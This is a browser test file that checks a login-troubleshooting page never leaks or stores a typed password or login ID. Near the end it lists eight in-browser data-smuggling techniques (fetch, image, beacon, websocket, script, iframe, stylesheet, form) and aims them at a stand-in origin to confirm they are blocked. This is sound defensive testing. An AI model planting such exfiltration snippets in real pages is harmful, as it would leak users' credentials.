import { afterAll, beforeAll, expect, test } from 'vitest'
import { openPlace, type Place } from '../support/place.ts'
import { openStage, type Stage } from './check-stage.ts'

/** A typed password stays in its input: nothing that leaves the browser, and nothing that stays in it, carries any part of it. */

const PASSWORD = 'Zq7-wakame!Xv3'
const LOGIN_ID = 'hiroshige＠minato-tradlng'

let stage: Stage
let elsewhere: Place
beforeAll(async () => {
  stage = await openStage()
  elsewhere = await openPlace()
})
afterAll(async () => {
  await stage.close()
  await elsewhere[Symbol.asyncDispose]()
})

/** Every piece of four letters, plain and as it looks in an address or in Base64. */
const pieces = Array.from({ length: PASSWORD.length - 3 }, (_, at) => PASSWORD.slice(at, at + 4)).flatMap((piece) => [
  piece,
  encodeURIComponent(piece),
])
const carries = (text: string) =>
  pieces.some((piece) => text.includes(piece)) ||
  [...text.matchAll(/[\w+/=-]{8,}/g)].some(([word]) => {
    const decoded = Buffer.from(word, 'base64').toString('latin1')
    return pieces.some((piece) => decoded.includes(piece))
  })

test('the test itself would notice', () => {
  expect(carries(`x=${encodeURIComponent(PASSWORD)}`)).toBe(true)
  expect(carries(Buffer.from(PASSWORD).toString('base64'))).toBe(true)
  expect(carries('x=1')).toBe(false)
})

test('no request, frame or beacon carries the password or the ID, and nothing of them is kept', async () => {
  await stage.visit(async (page) => {
    const sent: string[] = []
    const session = await page.context().newCDPSession(page)
    await session.send('Network.enable', { maxPostDataSize: 1_000_000 })
    session.on('Network.requestWillBeSent', ({ request }) =>
      sent.push(JSON.stringify([request.url, request.headers, request.postData ?? ''])),
    )
    session.on('Network.webSocketCreated', ({ url }) => sent.push(url))
    session.on('Network.webSocketFrameSent', ({ response }) => sent.push(response.payloadData))
    await page.context().route('**/*', async (route) => {
      const { url, method, headers, post } = {
        url: route.request().url(),
        method: route.request().method(),
        headers: await route.request().allHeaders(),
        post: route.request().postDataBuffer()?.toString('latin1') ?? '',
      }
      sent.push(JSON.stringify([method, url, headers, post]))
      await route.fallback()
    })
    await page.goto(`${stage.url}/check?lang=ja`)
    await page.locator('#login-id').pressSequentially(LOGIN_ID)
    await page.getByText('もしかして').waitFor()
    await page.locator('#password').pressSequentially(PASSWORD)
    await page.locator('#show-password').click()
    await page.locator('.cell .glyph', { hasText: 'Z' }).waitFor()
    await page.locator('#password').press('Enter')
    await page.locator('#run-check').click()
    await page.locator('.compared').waitFor()
    await page.getByRole('button', { name: 'ログインすると、メッセージやエラーが出る' }).click()
    await page.getByRole('button', { name: '解決しない' }).click()
    await page.locator('#copy-summary').click()
    await page.getByRole('button', { name: '「使えない」と報告する' }).click()
    await page.getByText('ありがとうございます。受け付けました。').waitFor()
    // The verdict is asked for meanwhile.
    await page.waitForResponse((response) => response.url().endsWith('/api/v1/verdict'))
    const kept = await page.evaluate<string>(`(async () => JSON.stringify([
      {...localStorage}, {...sessionStorage}, document.cookie, history.state, location.href,
      (await indexedDB.databases()).map(({ name }) => name), (await caches.keys()),
      document.getElementById('summary').value,
    ]))()`)
    await page.getByRole('link', { name: '判定の根拠を見る' }).click()
    await page.goBack()
    await page.locator('#run-check').waitFor()
    expect(await page.locator('#password').inputValue()).toBe('')
    expect(await page.locator('#login-id').inputValue()).toBe('')
    expect(sent.length).toBeGreaterThan(30)
    expect(sent.filter((text) => carries(text) || /hiroshige|tradlng/.test(text))).toEqual([])
    expect(carries(kept) || /hiroshige|tradlng/.test(kept)).toBe(false)
  })
}, 60_000)

test('the inputs belong to no form and have no name', async () => {
  await stage.visit(async (page) => {
    await page.goto(`${stage.url}/check`)
    for (const id of ['login-id', 'password']) {
      const input = await page.evaluate<readonly unknown[]>(
        `(({ form, name, autocomplete }) => [form, name, autocomplete])(document.getElementById('${id}'))`,
      )
      expect(input).toEqual([null, '', 'off'])
    }
  })
})

const SMUGGLERS: readonly (readonly [string, string])[] = [
  ['fetch', 'fetch(url, { mode: "no-cors" }).catch(() => {})'],
  ['an image', 'new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = url })'],
  ['a beacon', 'navigator.sendBeacon(url, "x")'],
  [
    'a socket',
    'new Promise((done) => { const s = new WebSocket(url.replace("http", "ws")); s.onerror = s.onclose = done })',
  ],
  [
    'a script',
    'new Promise((done) => { const s = document.createElement("script"); s.onload = s.onerror = done; s.src = url; document.head.append(s) })',
  ],
  [
    'a frame',
    'new Promise((done) => { const f = document.createElement("iframe"); f.onload = done; f.src = url; document.body.append(f); setTimeout(done, 500) })',
  ],
  [
    'a style',
    'new Promise((done) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = l.onerror = done; l.href = url; document.head.append(l) })',
  ],
  [
    'a form',
    'new Promise((done) => { const f = document.createElement("form"); f.action = url; f.target = "_blank"; document.body.append(f); f.submit(); setTimeout(done, 500) })',
  ],
]

test('even a script that slipped in could not send anything elsewhere', async () => {
  const context = await stage.browser.newContext()
  const page = await context.newPage()
  await page.goto(`${stage.url}/check`)
  for (const [what, code] of SMUGGLERS)
    await page.evaluate(`(async (url) => { await ${code} })('${elsewhere.origin}/${what.replace(/\W/g, '-')}')`)
  const ran = await page.evaluate<boolean>(`(() => {
    const s = document.createElement('script'); s.textContent = 'window.slipped = true'; document.body.append(s)
    return window.slipped === true
  })()`)
  await context.close()
  expect(ran, 'an inline script').toBe(false)
  expect(elsewhere.requests.map(({ path }) => path)).toEqual([])
}, 60_000)
